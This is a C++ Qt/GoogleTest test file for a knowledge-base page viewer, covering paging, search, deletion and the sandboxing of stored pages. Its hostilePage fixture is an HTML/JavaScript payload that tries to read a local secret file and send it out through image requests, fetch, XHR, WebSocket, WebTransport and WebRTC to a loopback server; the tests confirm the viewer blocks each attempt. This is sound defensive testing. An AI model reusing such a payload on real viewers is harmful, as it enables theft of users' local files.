#include "support/TestSupport.h"

#include "engine/ConnectionProbe.h"
#include "engine/FixedConnection.h"
#include "kb/KnowledgeBaseCatalogue.h"
#include "kb/PageStore.h"
#include "kb/ScrambleLine.h"
#include "ui/DeleteConfirmDialog.h"
#include "ui/MessageDialog.h"
#include "viewer/PageView.h"
#include "viewer/ViewerWindow.h"

#include <QCheckBox>
#include <QComboBox>
#include <QDir>
#include <QLabel>
#include <QLineEdit>
#include <QListWidget>
#include <QNetworkDatagram>
#include <QPushButton>
#include <QSignalSpy>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTest>
#include <QUdpSocket>

#ifdef CORVANE_HAVE_WEBENGINE
#include <QWebEngineView>
#else
#include <QTextBrowser>
#endif

#include <gtest/gtest.h>

#include <algorithm>
#include <optional>

using namespace corvane;

#if defined(__SANITIZE_ADDRESS__) && defined(CORVANE_HAVE_WEBENGINE)
// The web engine frees some of its own objects with the wrong size once a page has loaded
// (any page, any view); the sanitizer would stop at that instead of at the tests.
extern "C" const char *__asan_default_options()
{
    return "new_delete_type_mismatch=0";
}
#endif

namespace {

// As the program does, before the web engine starts with the first page.
[[maybe_unused]] const bool engineRestricted = [] {
    PageView::restrictEngine();
    return true;
}();

QByteArray page(const QString &title)
{
    return QStringLiteral("<html><head><title>%1</title></head><body>%1</body></html>")
        .arg(title)
        .toUtf8();
}

// A web server on 127.0.0.1 that answers each request with the same page, and a UDP port
// beside it; counts whatever arrives at either.
class CountingServer
{
public:
    CountingServer()
    {
        EXPECT_TRUE(m_server.listen(QHostAddress::LocalHost));
        EXPECT_TRUE(m_udp.bind(QHostAddress::LocalHost));
        QObject::connect(&m_server, &QTcpServer::newConnection, [this] {
            while (QTcpSocket *socket = m_server.nextPendingConnection()) {
                m_arrivals.append(QStringLiteral("connection"));
                QObject::connect(socket, &QTcpSocket::readyRead, socket, [this, socket] {
                    if (socket->state() != QAbstractSocket::ConnectedState)
                        return;
                    m_arrivals.append(QString::fromLatin1(socket->readLine().trimmed()));
                    const QByteArray body = page(QStringLiteral("original"));
                    socket->write("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n"
                                  "Connection: close\r\nContent-Length: " +
                                  QByteArray::number(body.size()) + "\r\n\r\n" + body);
                    socket->disconnectFromHost();
                });
                QObject::connect(socket, &QTcpSocket::disconnected, socket, &QObject::deleteLater);
            }
        });
        QObject::connect(&m_udp, &QUdpSocket::readyRead, [this] {
            while (m_udp.hasPendingDatagrams()) {
                m_udp.receiveDatagram();
                m_arrivals.append(QStringLiteral("datagram"));
            }
        });
    }
    QString url(const QString &path) const
    {
        return QStringLiteral("http://127.0.0.1:%1%2").arg(m_server.serverPort()).arg(path);
    }
    int udpPort() const { return m_udp.localPort(); }
    // Connections, datagrams and request lines, in order of arrival.
    const QStringList &arrivals() const { return m_arrivals; }
    bool quiet() const { return m_arrivals.isEmpty(); }
    std::string log() const { return m_arrivals.join(QLatin1Char('|')).toStdString(); }

private:
    QTcpServer m_server;
    QUdpSocket m_udp;
    QStringList m_arrivals;
};

// A stored page that tries every way out: to `server`, and to `secret` (a file URL) and the
// file `secret.txt` beside it. Its script reports each attempt in the title (and to the
// server) as "[how:what it got]", a refusal as "[how:refused]".
QByteArray hostilePage(const CountingServer &server, const QString &secret)
{
    return QStringLiteral(R"html(<html><head><title>stored</title>
<meta http-equiv="refresh" content="0;url=WEB/refresh">
<link rel="stylesheet" href="WEB/style.css"><link rel="prefetch" href="WEB/prefetch">
<link rel="icon" href="WEB/icon.png"></head><body>
<a id="away" href="WEB/link" style="position:fixed;inset:0;z-index:9">away</a>
<img src="WEB/picture.png"><iframe src="WEB/frame"></iframe><iframe src="SECRET"></iframe>
<img src="SECRET" onload="report('img:' + this.width)" onerror="report('img:refused')">
<script>
function report(what) {
    document.title += ' [' + what + ']';
    new Image().src = 'WEB/leak?' + encodeURIComponent(what);
}
function attempt(how, promise) {
    promise.then(function (got) { report(how + ':' + got); },
                 function () { report(how + ':refused'); });
}
function read(url) { return fetch(url).then(function (r) { return r.text(); }); }
document.title = 'scripts ran';
attempt('fetch', read('SECRET'));
attempt('beside', read('secret.txt'));
attempt('web', read('WEB/fetch'));
var x = new XMLHttpRequest();
attempt('xhr', new Promise(function (ok, no) { x.onload = ok; x.onerror = no; })
                   .then(function () { return x.responseText; }));
x.open('GET', 'SECRET');
x.send();
try { new WebSocket('WEB/socket'.replace('http', 'ws')); } catch (e) {}
try {
    new WebTransport('https://127.0.0.1:UDP/').ready.catch(function () {});
    report('transport:opened');
} catch (e) { report('transport:refused'); }
var rtc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP'}]});
rtc.onicegatheringstatechange = function () {
    if (rtc.iceGatheringState === 'complete')
        report('rtc:gathered');
};
rtc.createDataChannel('x');
rtc.createOffer().then(function (offer) { return rtc.setLocalDescription(offer); });
setTimeout(function () { location.href = 'WEB/script'; }, 0);
</script></body></html>)html")
        .replace(QLatin1String("WEB"), server.url({}))
        .replace(QLatin1String("UDP"), QString::number(server.udpPort()))
        .replace(QLatin1String("SECRET"), secret)
        .toUtf8();
}

class ViewerTest : public ::testing::Test
{
protected:
    void SetUp() override { root = QDir(home.path()).filePath(QStringLiteral("kb")); }
    void TearDown() override { DeleteConfirmDialog::setAnswerHook({}); }

    // A knowledge base through the store, with `counts[i]` pages under term i.
    void harvest(const QString &base, const QStringList &terms, const QList<int> &counts)
    {
        PageStore store;
        configure(store, base, terms);
        for (int t = 0; t < terms.size(); ++t)
            for (int i = 0; i < counts[t]; ++i) {
                const QString address =
                    QStringLiteral("http://127.0.0.1/%1/%2/%3.html").arg(base, terms[t]).arg(i);
                const auto saved = store.SavePage(address, terms[t], page(terms[t]));
                ASSERT_TRUE(saved) << saved.message().toStdString();
            }
    }
    // The only page of a knowledge base, saved as it came; returns its keyword folder.
    QString storePage(const QString &address, const QByteArray &html)
    {
        PageStore store;
        configure(store, QStringLiteral("Hostile"), {QStringLiteral("page")});
        const auto saved = store.SavePage(address, QStringLiteral("page"), html);
        EXPECT_TRUE(saved) << saved.message().toStdString();
        const auto kb = KnowledgeBaseCatalogue::findByNumber(1);
        return kb && *kb ? QDir((*kb)->folder).filePath(QStringLiteral("page")) : QString();
    }
    void configure(PageStore &store, const QString &base, const QStringList &terms)
    {
        PageStoreSettings settings;
        settings.root = root;
        settings.baseName = base;
        settings.selectedTerms = terms;
        store.setSettings(settings);
    }

    template <typename T>
    T *child(ViewerWindow &viewer, const char *name)
    {
        T *found = viewer.findChild<T *>(QString::fromLatin1(name));
        EXPECT_NE(found, nullptr) << name;
        return found;
    }
    QString text(ViewerWindow &viewer, const char *label)
    {
        return child<QLabel>(viewer, label)->text();
    }
    void click(ViewerWindow &viewer, const char *name)
    {
        QPushButton *b = child<QPushButton>(viewer, name);
        ASSERT_TRUE(b->isEnabled()) << name;
        QTest::mouseClick(b, Qt::LeftButton);
    }

    test::TempDataFolder home;
    QString root;
};

TEST_F(ViewerTest, WithoutKnowledgeBaseShowsPlaceholderAndDisablesPageButtons)
{
    MessageCapture messages;
    ViewerWindow viewer;
    EXPECT_EQ(child<QComboBox>(viewer, "cmbMailList")->count(), 0);
    EXPECT_EQ(child<QComboBox>(viewer, "cmbKeyword")->count(), 0);
    for (const char *name :
         {"cmdFirst", "cmdPrevious", "cmdNext", "cmdLast", "cmdDel", "cmdView", "cmdDelKB"})
        EXPECT_FALSE(child<QPushButton>(viewer, name)->isEnabled()) << name;
    EXPECT_EQ(viewer.pageView()->requestedUrl(), ViewerWindow::placeholderPage());
    EXPECT_TRUE(QFileInfo::exists(home.file(QStringLiteral("IOFiles/KBMailGroup.qdx"))));
    EXPECT_TRUE(messages.messages().isEmpty());
}

TEST_F(ViewerTest, PagesThroughAKeywordFromFirstToLast)
{
    harvest(QStringLiteral("Birds"), {QStringLiteral("crow"), QStringLiteral("wren")}, {3, 1});
    MessageCapture messages;
    ViewerWindow viewer;
    auto *kbs = child<QComboBox>(viewer, "cmbMailList");
    ASSERT_EQ(kbs->count(), 1);
    EXPECT_TRUE(kbs->itemText(0).startsWith(QStringLiteral("Birds")));
    auto *keywords = child<QComboBox>(viewer, "cmbKeyword");
    ASSERT_EQ(keywords->count(), 2);
    EXPECT_EQ(keywords->itemText(0), QStringLiteral("crow"));

    EXPECT_EQ(text(viewer, "lblTotalNum"), QStringLiteral("3"));
    EXPECT_EQ(text(viewer, "lblNum"), QStringLiteral("1"));
    EXPECT_EQ(text(viewer, "lblData2"), QStringLiteral("http://127.0.0.1/Birds/crow/0.html"));
    EXPECT_TRUE(text(viewer, "lblCreatedOn").startsWith(QStringLiteral("Content as on: ")));
    EXPECT_TRUE(viewer.pageView()->requestedUrl().isLocalFile());
    EXPECT_TRUE(viewer.pageView()->requestedUrl().toLocalFile().endsWith(QStringLiteral(".htm")));

    click(viewer, "cmdNext");
    EXPECT_EQ(text(viewer, "lblNum"), QStringLiteral("2"));
    EXPECT_EQ(text(viewer, "lblData2"), QStringLiteral("http://127.0.0.1/Birds/crow/1.html"));
    click(viewer, "cmdLast");
    EXPECT_EQ(text(viewer, "lblNum"), QStringLiteral("3"));
    click(viewer, "cmdNext"); // beyond the end the cursor stays
    EXPECT_EQ(text(viewer, "lblNum"), QStringLiteral("3"));
    click(viewer, "cmdPrevious");
    EXPECT_EQ(text(viewer, "lblData2"), QStringLiteral("http://127.0.0.1/Birds/crow/1.html"));
    click(viewer, "cmdFirst");
    EXPECT_EQ(text(viewer, "lblData2"), QStringLiteral("http://127.0.0.1/Birds/crow/0.html"));

    keywords->setCurrentIndex(1);
    emit keywords->activated(1);
    EXPECT_EQ(text(viewer, "lblTotalNum"), QStringLiteral("1"));
    EXPECT_EQ(text(viewer, "lblData2"), QStringLiteral("http://127.0.0.1/Birds/wren/0.html"));
    EXPECT_TRUE(messages.messages().isEmpty()) << messages.messages().join('|').toStdString();
}

TEST_F(ViewerTest, SearchBoxListsTheHitsAndAClickShowsThePage)
{
    harvest(QStringLiteral("Birds"), {QStringLiteral("crow"), QStringLiteral("wren")}, {3, 1});
    MessageCapture messages;
    ViewerWindow viewer;
    auto *query = child<QLineEdit>(viewer, "txtSearch");
    auto *hits = child<QListWidget>(viewer, "lstSearchResults");
    auto *status = child<QLabel>(viewer, "lblSearchStatus");
    const auto search = [&](const QString &words) {
        hits->clear();
        status->clear();
        query->setText(words);
        QTest::keyClick(query, Qt::Key_Return);
        return QTest::qWaitFor(
            [&] { return status->text().contains(QLatin1String("page")) || hits->count() > 0; });
    };

    ASSERT_TRUE(search(QStringLiteral("CROW")));
    ASSERT_EQ(hits->count(), 3);
    const QString third = QStringLiteral("http://127.0.0.1/Birds/crow/2.html");
    QListWidgetItem *item = nullptr;
    for (int i = 0; i < hits->count(); ++i) {
        if (hits->item(i)->toolTip() == third)
            item = hits->item(i);
    }
    ASSERT_NE(item, nullptr);
    QTest::mouseClick(hits->viewport(), Qt::LeftButton, {}, hits->visualItemRect(item).center());
    EXPECT_EQ(text(viewer, "lblData2"), third);
    EXPECT_EQ(text(viewer, "lblNum"), QStringLiteral("3"));

    // The window's deletion takes the page out of the search.
    click(viewer, "cmdDel");
    ASSERT_TRUE(search(QStringLiteral("crow")));
    ASSERT_EQ(hits->count(), 2);
    for (int i = 0; i < hits->count(); ++i)
        EXPECT_NE(hits->item(i)->toolTip(), third);

    ASSERT_TRUE(search(QStringLiteral("wren")));
    ASSERT_EQ(hits->count(), 1);
    QTest::mouseClick(hits->viewport(), Qt::LeftButton, {},
                      hits->visualItemRect(hits->item(0)).center());
    EXPECT_EQ(child<QComboBox>(viewer, "cmbKeyword")->currentText(), QStringLiteral("wren"));
    EXPECT_EQ(text(viewer, "lblData2"), QStringLiteral("http://127.0.0.1/Birds/wren/0.html"));

    // Query syntax is no error: nothing searchable gives the user's message, not the index's.
    query->setText(QStringLiteral("\""));
    QTest::keyClick(query, Qt::Key_Return);
    ASSERT_TRUE(QTest::qWaitFor([&] { return status->text().contains(QLatin1String("word")); }));
    EXPECT_FALSE(hits->isVisible());
    EXPECT_TRUE(messages.messages().isEmpty()) << messages.messages().join('|').toStdString();
}

TEST_F(ViewerTest, DeletePageRemovesTheRowThenTheKeywordThenAsksForTheKnowledgeBase)
{
    harvest(QStringLiteral("Birds"), {QStringLiteral("crow"), QStringLiteral("wren")}, {2, 1});
    MessageCapture messages;
    ViewerWindow viewer;
    auto *keywords = child<QComboBox>(viewer, "cmbKeyword");
    const QString crowFolder = viewer.currentKeywordFolder();

    click(viewer, "cmdNext");
    click(viewer, "cmdDel"); // two rows: the second goes, the first is shown
    EXPECT_EQ(text(viewer, "lblTotalNum"), QStringLiteral("1"));
    EXPECT_EQ(text(viewer, "lblData2"), QStringLiteral("http://127.0.0.1/Birds/crow/0.html"));

    click(viewer, "cmdDel"); // last page of a keyword with a sibling: the keyword goes
    EXPECT_FALSE(QFileInfo::exists(crowFolder));
    ASSERT_EQ(keywords->count(), 1);
    EXPECT_EQ(keywords->itemText(0), QStringLiteral("wren"));
    EXPECT_EQ(text(viewer, "lblData2"), QStringLiteral("http://127.0.0.1/Birds/wren/0.html"));
    const auto remaining = KnowledgeBaseCatalogue::keywordFolders();
    ASSERT_TRUE(remaining);
    EXPECT_EQ(remaining->size(), 1);

    // The only page of the only keyword: the viewer asks to delete the knowledge base.
    QString asked;
    DeleteConfirmDialog::setAnswerHook([&](const DeleteConfirmDialog &dialog) {
        asked = dialog.questionLabel()->text();
        return false;
    });
    click(viewer, "cmdDel");
    EXPECT_TRUE(asked.startsWith(QStringLiteral("Do you wish to permanently delete Birds")));
    EXPECT_TRUE(asked.endsWith(QStringLiteral(" Knowledgbase?")));
    EXPECT_EQ(text(viewer, "lblTotalNum"), QStringLiteral("1")); // declined: still there

    DeleteConfirmDialog::setAnswerHook([](const DeleteConfirmDialog &) { return true; });
    click(viewer, "cmdDel");
    EXPECT_EQ(child<QComboBox>(viewer, "cmbMailList")->count(), 0);
    EXPECT_EQ(text(viewer, "lblTotalNum"), QStringLiteral("0"));
    EXPECT_EQ(viewer.pageView()->requestedUrl(), ViewerWindow::placeholderPage());
    EXPECT_TRUE(QDir(root).entryList(QDir::Dirs | QDir::NoDotAndDotDot).isEmpty());
    EXPECT_FALSE(child<QPushButton>(viewer, "cmdDel")->isEnabled());
}

TEST_F(ViewerTest, DeleteKnowledgeBaseKeepsTheOthersAndNoKeepsThePage)
{
    harvest(QStringLiteral("Birds"), {QStringLiteral("crow")}, {2});
    harvest(QStringLiteral("Fish"), {QStringLiteral("carp")}, {2});
    ViewerWindow viewer;
    auto *kbs = child<QComboBox>(viewer, "cmbMailList");
    ASSERT_EQ(kbs->count(), 2);
    click(viewer, "cmdNext");
    DeleteConfirmDialog::setAnswerHook([](const DeleteConfirmDialog &) { return false; });
    click(viewer, "cmdDelKB");
    EXPECT_EQ(kbs->count(), 2);
    EXPECT_EQ(text(viewer, "lblNum"), QStringLiteral("2"));
    EXPECT_EQ(text(viewer, "lblData2"), QStringLiteral("http://127.0.0.1/Birds/crow/1.html"));

    DeleteConfirmDialog::setAnswerHook([](const DeleteConfirmDialog &) { return true; });
    click(viewer, "cmdDelKB");
    ASSERT_EQ(kbs->count(), 1);
    EXPECT_TRUE(kbs->itemText(0).startsWith(QStringLiteral("Fish")));
    EXPECT_EQ(text(viewer, "lblTotalNum"), QStringLiteral("2"));
    EXPECT_EQ(text(viewer, "lblData2"), QStringLiteral("http://127.0.0.1/Fish/carp/0.html"));
}

TEST_F(ViewerTest, HarvestShowsUpAtOnceAndTheStoredPageKeepsItsDate)
{
    harvest(QStringLiteral("Birds"), {QStringLiteral("crow")}, {2});
    MessageCapture messages;
    ViewerWindow viewer;
    // The stored page's own load leaves its date on show; the next load (a link followed
    // inside the page) is another page.
    auto *createdOn = child<QLabel>(viewer, "lblCreatedOn");
    click(viewer, "cmdNext");
    emit viewer.pageView()->loadStarted();
    EXPECT_FALSE(createdOn->isHidden());
    emit viewer.pageView()->loadStarted();
    EXPECT_TRUE(createdOn->isHidden());

    // A harvest elsewhere adds a knowledge base; the viewer lists it without leaving the page
    // it shows.
    harvest(QStringLiteral("Fish"), {QStringLiteral("carp")}, {1});
    auto *kbs = child<QComboBox>(viewer, "cmbMailList");
    ASSERT_TRUE(QTest::qWaitFor([&] { return kbs->count() == 2; }, 20000));
    EXPECT_EQ(kbs->currentIndex(), 0);
    EXPECT_EQ(text(viewer, "lblNum"), QStringLiteral("2"));
    EXPECT_EQ(text(viewer, "lblData2"), QStringLiteral("http://127.0.0.1/Birds/crow/1.html"));
    EXPECT_TRUE(messages.messages().isEmpty()) << messages.messages().join('|').toStdString();
}

TEST_F(ViewerTest, KeywordWithoutIndexAndBadRecordsAreReported)
{
    harvest(QStringLiteral("Birds"), {QStringLiteral("crow"), QStringLiteral("wren")}, {1, 1});
    const auto kb = KnowledgeBaseCatalogue::findByNumber(1);
    ASSERT_TRUE(kb && *kb);
    QFile::remove(QDir((*kb)->folder).filePath(QStringLiteral("crow/index.qdx")));
    // A record without the page-number separator.
    test::writeFile(QDir((*kb)->folder).filePath(QStringLiteral("wren/index.qdx")),
                    *ScrambleLine(QByteArrayView("no separator")) + "\r\n");

    MessageCapture messages;
    ViewerWindow viewer;
    ASSERT_FALSE(messages.messages().isEmpty());
    EXPECT_EQ(messages.messages().first(),
              QStringLiteral("No matching records found for the selected keyword."));
    EXPECT_EQ(text(viewer, "lblTotalNum"), QStringLiteral("0"));
    EXPECT_FALSE(child<QPushButton>(viewer, "cmdNext")->isEnabled());

    auto *keywords = child<QComboBox>(viewer, "cmbKeyword");
    keywords->setCurrentIndex(1);
    emit keywords->activated(1);
    EXPECT_TRUE(messages.messages().last().startsWith(QStringLiteral("PopulateDetails->")));
}

TEST_F(ViewerTest, AddressBoxAndOriginalPageFollowTheConnection)
{
    harvest(QStringLiteral("Birds"), {QStringLiteral("crow")}, {1});
    MessageCapture messages;
    ViewerWindow viewer;
    const QUrl saved = viewer.pageView()->requestedUrl();

    test::FixedConnection offline(false);
    viewer.setConnectionCheck(&offline);
    click(viewer, "cmdView");
    EXPECT_EQ(messages.messages().value(0), QStringLiteral("Not connected To the internet."));
    EXPECT_EQ(viewer.pageView()->requestedUrl(), saved);

    test::FixedConnection online(true);
    viewer.setConnectionCheck(&online);
    click(viewer, "cmdView");
    EXPECT_EQ(viewer.pageView()->requestedUrl(),
              QUrl(QStringLiteral("http://127.0.0.1/Birds/crow/0.html")));

    auto *address = child<QLineEdit>(viewer, "txtURL");
    address->setText(QStringLiteral("   "));
    click(viewer, "cmdBrowse");
    EXPECT_EQ(messages.messages().value(1), QStringLiteral("Please enter URL."));
    address->setText(QStringLiteral(" 127.0.0.1:1/x.html "));
    QTest::keyClick(address, Qt::Key_Return);
    EXPECT_EQ(viewer.pageView()->requestedUrl(), QUrl(QStringLiteral("http://127.0.0.1:1/x.html")));
}

TEST_F(ViewerTest, ToolButtonsOpenOneWindowEachAndAreReachableByTab)
{
    ViewerWindow viewer;
    int made = 0;
    QWidget *made1 = nullptr;
    viewer.setWindowFactory(ViewerWindow::Tool::LeadsScan, [&](QWidget *) {
        ++made;
        made1 = new QWidget;
        made1->setAttribute(Qt::WA_DeleteOnClose);
        return made1;
    });
    EXPECT_FALSE(child<QPushButton>(viewer, "cmdZebCorvane")->isEnabled());
    click(viewer, "cmdLeadsScan");
    click(viewer, "cmdLeadsScan");
    EXPECT_EQ(made, 1);
    EXPECT_TRUE(made1->isVisible());
    delete made1;

    for (QPushButton *b : viewer.findChildren<QPushButton *>())
        EXPECT_EQ(b->focusPolicy() & Qt::TabFocus, Qt::TabFocus) << b->objectName().toStdString();
}

// A stored page with its secrets beside it and outside the knowledge base, and the viewer
// showing it once it has loaded.
class SafeViewTest : public ViewerTest
{
protected:
    static constexpr int kLoadMs = 30000;

    void SetUp() override
    {
        ViewerTest::SetUp();
        outsideSecret = home.file(QStringLiteral("secret.txt"));
        test::writeFile(outsideSecret, kSecret);
        const QString folder = storePage(server.url(QStringLiteral("/original")),
                                         hostilePage(server, fileUrl(outsideSecret)));
        ASSERT_FALSE(folder.isEmpty());
        test::writeFile(QDir(folder).filePath(QStringLiteral("secret.txt")), kSecret);
        viewer.emplace();
        view = viewer->pageView();
        loads.emplace(view, &PageView::loadFinished);
        viewer->show();
        ASSERT_TRUE(QTest::qWaitForWindowExposed(&*viewer));
        stored = view->requestedUrl();
        ASSERT_TRUE(stored.isLocalFile());
#ifdef CORVANE_HAVE_WEBENGINE
        ASSERT_TRUE(loads->wait(kLoadMs)); // the text browser has shown it already
#endif
    }

    static QString fileUrl(const QString &path)
    {
        return QUrl::fromLocalFile(path).toString();
    }
    bool blocked(const QString &url) const
    {
        return view->blockedRequests().contains(QUrl(url));
    }
    bool waitUntilRefused(const QStringList &urls)
    {
        return QTest::qWaitFor(
            [&] {
                return std::all_of(urls.begin(), urls.end(),
                                   [&](const QString &url) { return blocked(url); });
            },
            kLoadMs);
    }
    // What got out would arrive within moments on the loopback.
    void expectNothingArrivedBut(const QStringList &expected = {})
    {
        QTest::qWait(300);
        EXPECT_EQ(server.arrivals(), expected) << server.log();
    }

    static inline const QByteArray kSecret = "TOPSECRET-42";
    CountingServer server;
    QString outsideSecret;
    std::optional<ViewerWindow> viewer;
    PageView *view = nullptr;
    std::optional<QSignalSpy> loads;
    QUrl stored;
};

#ifdef CORVANE_HAVE_WEBENGINE

TEST_F(SafeViewTest, StoredPageRunsNoScriptAndReachesNeitherTheWebNorOtherFiles)
{
    auto *web = viewer->findChild<QWebEngineView *>(QStringLiteral("webPageView"));
    ASSERT_NE(web, nullptr);
    EXPECT_FALSE(viewer->findChild<QCheckBox *>(QStringLiteral("chkScripts"))->isChecked());
    EXPECT_TRUE(waitUntilRefused({server.url(QStringLiteral("/frame")),
                                  server.url(QStringLiteral("/refresh")), fileUrl(outsideSecret)}));
    QTest::mouseClick(web->focusProxy(), Qt::LeftButton, {}, QPoint(40, 40));
    EXPECT_TRUE(waitUntilRefused({server.url(QStringLiteral("/link"))}));
    expectNothingArrivedBut();
    EXPECT_EQ(web->url().toString().toStdString(), stored.toString().toStdString());
    EXPECT_EQ(web->title().toStdString(), "stored");
}

TEST_F(SafeViewTest, AllowedScriptsStillReadNoFileAndReachNoServerUntilTheOriginalIsAsked)
{
    auto *web = viewer->findChild<QWebEngineView *>(QStringLiteral("webPageView"));
    auto *scripts = viewer->findChild<QCheckBox *>(QStringLiteral("chkScripts"));
    ASSERT_NE(scripts, nullptr);
    QTest::mouseClick(scripts, Qt::LeftButton, {}, QPoint(4, scripts->height() / 2));
    ASSERT_TRUE(scripts->isChecked());
    ASSERT_TRUE(loads->wait(kLoadMs)); // the stored page again, its scripts on
    const QStringList reports = {"[fetch:refused]", "[beside:refused]", "[xhr:refused]",
                                 "[web:refused]",   "[img:refused]",    "[transport:refused]",
                                 "[rtc:gathered]"};
    const auto allReported = [&] {
        return std::all_of(reports.begin(), reports.end(),
                           [&](const QString &r) { return web->title().contains(r); });
    };
    (void)QTest::qWaitFor([&] { return allReported() || !server.quiet(); }, kLoadMs);
    EXPECT_TRUE(allReported()) << web->title().toStdString();
    EXPECT_TRUE(web->title().startsWith(QStringLiteral("scripts ran")));
    QString socket = server.url(QStringLiteral("/socket"));
    EXPECT_TRUE(waitUntilRefused({socket.replace(QLatin1String("http"), QLatin1String("ws")),
                                  server.url(QStringLiteral("/script"))}));
    expectNothingArrivedBut();
    EXPECT_EQ(web->url().toString().toStdString(), stored.toString().toStdString());
    EXPECT_FALSE(web->title().contains(QString::fromLatin1(kSecret)));

    test::FixedConnection online(true);
    viewer->setConnectionCheck(&online);
    QTest::mouseClick(viewer->findChild<QPushButton *>(QStringLiteral("cmdView")), Qt::LeftButton);
    ASSERT_TRUE(
        QTest::qWaitFor([&] { return web->title() == QStringLiteral("original"); }, kLoadMs));
    const QStringList original = {QStringLiteral("connection"),
                                  QStringLiteral("GET /original HTTP/1.1")};
    EXPECT_EQ(server.arrivals(), original) << server.log();

    // Back on the stored page after the switch went off: its scripts stay off again.
    scripts->setChecked(false);
    loads->clear();
    view->back();
    ASSERT_TRUE(loads->wait(kLoadMs));
    EXPECT_EQ(web->url().toString().toStdString(), stored.toString().toStdString());
    expectNothingArrivedBut(original);
    EXPECT_EQ(web->title().toStdString(), "stored");
}

#else

TEST_F(SafeViewTest, TextBrowserReadsOnlyThePageFolder)
{
    auto *browser = viewer->findChild<QTextBrowser *>(QStringLiteral("webPageView"));
    ASSERT_NE(browser, nullptr);
    EXPECT_TRUE(blocked(fileUrl(outsideSecret)));
    EXPECT_TRUE(blocked(server.url(QStringLiteral("/picture.png"))));
    emit browser->anchorClicked(QUrl(fileUrl(outsideSecret)));
    emit browser->anchorClicked(QUrl(server.url(QStringLiteral("/link"))));
    EXPECT_EQ(browser->source().toString().toStdString(), stored.toString().toStdString());
    expectNothingArrivedBut();
    EXPECT_FALSE(browser->toPlainText().contains(QString::fromLatin1(kSecret)));
}

#endif

} // namespace
